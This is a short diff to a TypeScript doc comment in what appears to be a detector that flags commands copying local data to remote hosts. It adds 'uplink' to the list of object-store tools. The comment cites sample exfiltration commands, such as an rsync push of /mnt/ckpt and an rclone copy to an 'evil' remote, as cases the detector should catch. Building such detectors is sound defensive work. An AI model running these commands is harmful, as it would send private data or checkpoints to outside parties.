@@ -140,7 +140,7 @@ function pushesToRemote(words: readonly string[], tool: string): boolean {
  * The copy tools (rsync, scp) of `commands` whose destination (the last operand) is remote and
  * that copy at least one local source there: `rsync -az /mnt/ckpt/ u@h:/x/` (a push, the
  * exfiltration) gives `rsync`; `rsync -a u@h:/data /local` (a pull) and `rsync -a /a /b` give
- * nothing. The object-store CLIs (aws, gsutil, gcloud, s3cmd, s5cmd, azcopy) when they copy to a
+ * nothing. The object-store CLIs (aws, gsutil, gcloud, s3cmd, s5cmd, azcopy, uplink) when they copy to a
  * bucket (exec-bucket-copies.ts): `aws s3 cp f s3://b/` gives `aws`, a download nothing. rclone
  * when it sends to a remote (exec-rclone-copies.ts): `rclone copy /mnt/ckpt evil:b` gives `rclone`,
  * a pull (`rclone copy s3:datasets /data`) nothing. MinIO's mc (or mcli) when it may send
